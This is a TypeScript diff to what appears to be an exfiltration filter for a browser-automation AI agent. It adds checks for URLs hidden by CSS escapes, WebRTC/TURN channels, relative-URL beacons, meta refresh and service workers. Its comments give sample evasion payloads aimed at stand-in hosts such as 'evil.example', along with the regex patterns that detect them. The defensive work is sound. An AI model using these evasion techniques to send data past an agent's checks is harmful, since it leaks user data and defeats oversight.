@@ -35,6 +35,8 @@ const schemeRelative = /["'`=(,]\s*[\\/]{2}([^\s"'<>`{}|\\^/?#\u0000-\u001f\u007
 // A host given to a URL object or `location` by assignment (`location.host = 'evil.example'`,
 // `u.hostname = "evil.example"`): the page then goes (or the URL points) there.
 const hostAssigned = /\.(?:host|hostname)\s*=\s*["'`]([^"'`\s/\\?#]+)["'`]/g;
+// A CSS hex escape of a letter of `https`, `wss`, or `:`, `/`, `\` (in any case, zeros before).
+const cssHexEscape = /\\0{0,4}(?:[4-7][0-9a-f]|3a|2f|5c)(?![0-9a-f])/i;
 const base64Literal = /["'`]([A-Za-z0-9+/_-]{12,}={0,2})["'`]/g;
 
 const jsLetters: Record<string, string> = { n: '\n', r: '\r', t: '\t', b: '\b', f: '\f', v: '\v', 0: '\0' };
@@ -70,6 +72,38 @@ function jsUnescaped(s: string): string {
       one = String.fromCharCode(hexAt(s, i + 2, i + 6));
       end = i + 6;
     } else one = c === '\n' || c === '\r' ? '' : (jsLetters[c] ?? c);
+    out.push(s.slice(from, i), one);
+    from = i = end;
+  }
+  out.push(s.slice(from));
+  return out.join('');
+}
+
+/**
+ * CSS's escapes undone as the CSS parser reads a style sheet, a style attribute or a string in one:
+ * `\` and one to six hex digits is that code point (one blank after it is part of the escape), an
+ * escaped line break is nothing, any other escaped character is itself (twenty-second pass:
+ * `url(\68ttps\3a\2f\2f evil\2e example\2f c)` is `https://evil.example/c` to the browser and
+ * named no URL to the reader). A scan, as jsUnescaped.
+ */
+export function cssUnescaped(s: string): string {
+  if (!s.includes('\\')) return s;
+  const out: string[] = [];
+  let from = 0;
+  for (let i = s.indexOf('\\'); i >= 0 && i + 1 < s.length; i = s.indexOf('\\', i)) {
+    let end = i + 1;
+    while (end < s.length && end - i <= 6 && /[0-9a-fA-F]/.test(s[end]!)) end++;
+    let one: string;
+    if (end > i + 1) {
+      const code = parseInt(s.slice(i + 1, end), 16);
+      one = code === 0 || code > 0x10ffff || (code >= 0xd800 && code <= 0xdfff) ? '\ufffd' : String.fromCodePoint(code);
+      if (s[end] === '\r' && s[end + 1] === '\n') end += 2;
+      else if (end < s.length && /[ \t\n\r\f]/.test(s[end]!)) end++;
+    } else {
+      const c = s[i + 1]!;
+      one = c === '\n' || c === '\r' || c === '\f' ? '' : c;
+      end = c === '\r' && s[i + 2] === '\n' ? i + 3 : i + 2;
+    }
     out.push(s.slice(from, i), one);
     from = i = end;
   }
@@ -249,8 +283,10 @@ export function assembled(text: string): { strings: string[]; runtimeHost: boole
 }
 
 // Where code has the browser load a URL (twenty-first pass): a call or assignment that takes one.
-const loadCalls = /\b(?:fetch|sendBeacon|importScripts|import|open)\s*\(|\blocation\s*\.\s*(?:assign|replace)\s*\(|\bnew\s+(?:Worker|SharedWorker|EventSource|WebSocket|Request|Audio)\s*\(/g;
-const loadAssignments = /(?:\.\s*(?:src|href|action|formAction|poster|srcset|search|pathname|port|protocol)|\blocation)\s*=(?!=)/g;
+// (Twenty-second pass: `fetchLater`, a service worker registered, a `ping` or `imageSrcset` set, a
+// property named in brackets, `img['src'] = …`, `window['location'] = …`, were not read.)
+const loadCalls = /\b(?:fetch|fetchLater|sendBeacon|importScripts|import|open)\s*\(|\bserviceWorker\s*\.\s*register\s*\(|\blocation\s*\.\s*(?:assign|replace)\s*\(|\bnew\s+(?:Worker|SharedWorker|EventSource|WebSocket|Request|Audio)\s*\(/g;
+const loadAssignments = /(?:\.\s*(?:src|href|action|formAction|poster|srcset|imageSrcset|ping|lowsrc|search|pathname|port|protocol)|(?<!\bstyle\s*)\.\s*background|\[\s*(['"`])(?:src|href|action|formAction|poster|srcset|imageSrcset|ping|background|search|pathname|port|protocol|location)\1\s*\]|\blocation)\s*=(?!=)/g;
 const loadAttributes = /\bsetAttribute\s*\(\s*(['"`])(?:src|href|action|formaction|poster|srcset|ping|background)\1\s*,/gi;
 const httpMethod = /^(['"`])\s*(?:get|head|post|put|patch|delete|options)\s*\1\s*,/i;
 
@@ -264,7 +300,7 @@ const httpMethod = /^(['"`])\s*(?:get|head|post|put|patch|delete|options)\s*\1\s
  * written out (read by `codeUrls`), an empty one and a fragment are decided or load nothing.
  */
 export function computedLoad(text: string): boolean {
-  if (!/fetch|sendBeacon|import|open|location|Worker|EventSource|WebSocket|Request|Audio|src|href|action|poster|search|pathname|port|protocol|setAttribute/i.test(text)) return false;
+  if (!/fetch|sendBeacon|import|open|location|Worker|EventSource|WebSocket|Request|Audio|src|href|action|poster|search|pathname|port|protocol|setAttribute|ping|background|register/i.test(text)) return false;
   const lits = literals(text);
   const at = new Map(lits.map((l, i) => [l.start, i]));
   // The literal run an argument begins with, and whether it is the whole argument.
@@ -335,6 +371,17 @@ export function codeSends(text: string): boolean {
 }
 
 /**
+ * Whether code opens a WebRTC connection (twenty-second pass): `new RTCPeerConnection({iceServers:
+ * [{urls: 'turn:evil.example', username: '<data>'}]})` has the browser reach a STUN or TURN server
+ * over UDP, the username and the server's name carrying data, and a remote candidate
+ * (`addIceCandidate`, an SDP's `a=candidate`) any address and port with the ICE username the
+ * agent chose: none of it is a URL the browse rules decide. Browser automation has no use for it.
+ */
+export function opensWebRtc(text: string): boolean {
+  return /RTCPeerConnection|RTCIceCandidate|RTCIceTransport|iceServers|\b(?:stuns?|turns?):[\w-]*[.:[]|a=candidate|addIceCandidate/i.test(jsUnescaped(text));
+}
+
+/**
  * Code the text decodes before it runs it (`eval(atob('…'))`, `Function(decodeURIComponent('…'))`):
  * its base64 literals that decode to text, and the strings it decodes, at most MAX_BASE64 of them.
  * Twenty-first pass: what `computedLoad` and `codeSends` read was missed inside such code.
@@ -364,6 +411,12 @@ export function codeUrls(text: string): string[] {
   // caller refuses the command.
   if (built.runtimeHost) out.add('https://');
   const views = new Set([text, escaped, referencesDecoded(escaped), ...built.strings.map((v) => `"${v}"`)]);
+  // CSS's escapes undone too: a style sheet's, or one a script writes out (twenty-second pass). Only
+  // a hex escape can hide what the other readings find (an escaped letter or slash, a line break,
+  // reads alike in JavaScript), and one that hides a URL writes a letter of a scheme, `:`, `/` or
+  // `\` (an escaped letter of a host leaves a URL whose host is cut short, refused): the readings
+  // are made only then (they cost a third more on Playwright's 330 KB injected script).
+  if (cssHexEscape.test(text)) for (const v of [cssUnescaped(text), cssUnescaped(escaped)]) views.add(v);
   for (const v of [...views]) views.add(v.replace(/[\t\n\r]/g, ''));
   for (const v of views) urlsIn(v, out);
   let decoded = 0;
@@ -376,20 +429,122 @@ export function codeUrls(text: string): string[] {
 }
 
 /**
- * Markup as the browser's parser reads it: each attribute (name, decoded value) and the text of
- * the whole (attribute values, text, inline scripts and styles), for codeUrls.
+ * Whether a URL the page is given is resolved against the page: not empty, no fragment alone, no
+ * scheme, no `//host` of its own (as URL parsers read it: tabs and line breaks dropped, blanks and
+ * controls before it too). A page reached by a served link is taken by that exact URL only, and
+ * which page a target shows is not known here (a click may have taken it anywhere): such a URL's
+ * host is the page's, the attacker's on a page it served, and what follows it is the agent's
+ * choice (twenty-second pass: `<img src="/c?d=<data>">` went where `fetch('/c?d=' + d)` was
+ * refused).
  */
-export function markupParts(html: string): { attributes: Array<[string, string]>; text: string } {
+export function relativeUrl(value: string): boolean {
+  let v = value.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+/, '');
+  let end = v.length;
+  while (end > 0 && v.charCodeAt(end - 1) <= 0x20) end--; // (a pattern anchored at the end is quadratic)
+  v = v.slice(0, end);
+  if (v === '' || v.startsWith('#') || /^[a-z][a-z0-9+.-]*:/i.test(v)) return false;
+  const host = /^[\\/]{2}([^\\/?#]+)/.exec(v);
+  return !(host && relativeHost(host[1]!));
+}
+
+/** Attributes whose value is a URL the page loads (or goes to, or posts to). */
+export const URL_ATTRIBUTES: ReadonlySet<string> = new Set(['src', 'srcset', 'imagesrcset', 'href', 'xlink:href', 'action', 'formaction', 'poster', 'data', 'background', 'ping', 'cite', 'longdesc', 'manifest', 'icon', 'codebase', 'archive', 'lowsrc', 'dynsrc']);
+
+/** The URLs an attribute's value holds: blank-parted for `ping` and `archive`, comma-parted for the others (`srcset`'s candidates), each up to its first blank. */
+export function attributeUrls(name: string, value: string): string[] {
+  const parts = name === 'ping' || name === 'archive' ? value.split(/[\x00-\x20]+/) : value.split(',');
+  return parts.map((part) => part.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+/, '').split(/[\x01-\x20]/)[0]!);
+}
+
+/**
+ * Whether code writes markup the page parses with a URL relative to it in a string it writes out
+ * (`el.innerHTML = '<img src=/c?d=…>'`, `insertAdjacentHTML`, `document.write`, a template whose
+ * substitution stands in a URL attribute, a literal ending inside one, `'<img src="' + u`), as
+ * `computedLoad` refuses `img.src = '/c?d=' + d` (twenty-second pass).
+ */
+export function codeMarkupRelative(code: string): boolean {
+  if (!code.includes('<')) return false;
+  const computed = (v: string): boolean => {
+    const cut = v.indexOf('\u0000');
+    return cut >= 0 && !/^\s*(?:[a-z][a-z0-9+.-]*:|[\\/]{2}[^\\/?#\s\u0000]+[\\/?#])/i.test(v.slice(0, cut));
+  };
+  for (const l of literals(code)) {
+    if (!/<[a-zA-Z]/.test(l.value)) continue;
+    // A literal ending inside a tag's URL attribute: what follows it is computed.
+    const tail = l.value.slice(l.value.lastIndexOf('<'));
+    if (!tail.includes('>') && /\s(?:src|srcset|imagesrcset|href|xlink:href|action|formaction|poster|data|background|ping)\s*=\s*["']?$/i.test(tail)) return true;
+    const parts = markupParts(l.value);
+    if (parts.more) return true;
+    for (const [name, value] of parts.attributes) {
+      if (name === 'style' ? computed(value) || styleLoadsRelative(value.replaceAll('\u0000', '')) : URL_ATTRIBUTES.has(name) && attributeUrls(name, value).some((u) => computed(u) || relativeUrl(u))) return true;
+    }
+    if (parts.styles.some((css) => styleLoadsRelative(css.replaceAll('\u0000', ''))) || parts.refreshes.some((u) => computed(u) || relativeUrl(u))) return true;
+  }
+  return false;
+}
+
+/**
+ * Whether a style sheet (or a style attribute, a `<style>` element's text) loads a URL relative to
+ * the page: `url(…)`, `src(…)`, `@import "…"`, an `image-set()` candidate, CSS escapes undone
+ * (`u\72l(/c?d=…)`). Past 1,000 such loads it is not decided piecemeal.
+ */
+export function styleLoadsRelative(css: string): boolean {
+  const t = cssUnescaped(css);
+  if (!/url\(|src\(|@import|image-set\(/i.test(t)) return false;
+  const values: string[] = [];
+  for (const m of t.matchAll(/\b(?:url|src)\(\s*(?:(["'])((?:(?!\1)[^\n])*)|([^)\s"']*))/gi)) values.push(m[2] ?? m[3] ?? '');
+  for (const m of t.matchAll(/@import\s*(["'])((?:(?!\1)[^\n])*)/gi)) values.push(m[2]!);
+  for (const m of t.matchAll(/image-set\(([^)]{0,4000})/gi)) for (const q of m[1]!.matchAll(/(["'])((?:(?!\1)[^\n])*)\1/g)) values.push(q[2]!);
+  return values.length > 1000 || values.some(relativeUrl);
+}
+
+/**
+ * Whether code gives the page a style naming a URL relative to it in a string it writes out
+ * (`el.style.background = 'url(/c?d=…)'`, `sheet.insertRule('@import "/c?d=…"')`): each literal
+ * read as a style sheet. A style whose URL the code computes (`'url(' + u + ')'`) is not read here
+ * (Playwright's own CSS tokenizer writes `'url("' + escapeString(v) + '")'`).
+ */
+export function codeStylesRelative(code: string): boolean {
+  if (!/url|src|@import|image-set/i.test(code)) return false;
+  return literals(code).some((l) => /url\(|src\(|@import|image-set\(/i.test(l.value) && styleLoadsRelative(l.value.replaceAll('\u0000', '')));
+}
+
+/**
+ * Markup as the browser's parser reads it: each attribute (name, decoded value) and the text of
+ * the whole (attribute values, text, inline scripts and styles), for codeUrls; the text of each
+ * `<style>` element and the URL of each `<meta http-equiv="refresh">` (a style sheet and a
+ * navigation: twenty-second pass); `more` when it holds more attributes than are returned (1,000).
+ */
+export function markupParts(html: string): { attributes: Array<[string, string]>; text: string; styles: string[]; refreshes: string[]; more: boolean } {
   const attributes: Array<[string, string]> = [];
   const texts: string[] = [];
+  const styles: string[] = [];
+  const refreshes: string[] = [];
+  let more = false;
+  let inStyle = 0;
   const p = new Parser({
     onattribute: (name, value) => {
       if (attributes.length < 1000) attributes.push([name, value]);
+      else more = true;
       texts.push(`"${value}"`);
     },
-    ontext: (text) => void texts.push(text),
-  }, { decodeEntities: true, lowerCaseAttributeNames: true });
+    onopentag: (name, attribs) => {
+      if (name === 'style' && inStyle++ === 0) styles.push('');
+      // `content="0; url=…"` (also without `url=`, quoted or not), as the refresh is parsed.
+      if (name === 'meta' && /^\s*refresh\s*$/i.test(attribs['http-equiv'] ?? '') && refreshes.length < 64) {
+        const c = (attribs.content ?? '').trim();
+        let url = c.slice(/^[\d.]*\s*(?:[;,]\s*)?(?:url\s*=\s*)?/i.exec(c)![0].length);
+        if (/^['"]/.test(url)) url = url.slice(1, url.endsWith(url[0]!) && url.length > 1 ? -1 : undefined);
+        refreshes.push(url);
+      }
+    },
+    onclosetag: (name) => void (name === 'style' && inStyle > 0 && inStyle--),
+    ontext: (text) => {
+      texts.push(text);
+      if (inStyle > 0) styles[styles.length - 1] += text;
+    },
+  }, { decodeEntities: true, lowerCaseAttributeNames: true, lowerCaseTags: true });
   p.write(html);
   p.end();
-  return { attributes, text: texts.join('\n') };
+  return { attributes, text: texts.join('\n'), styles, refreshes, more };
 }
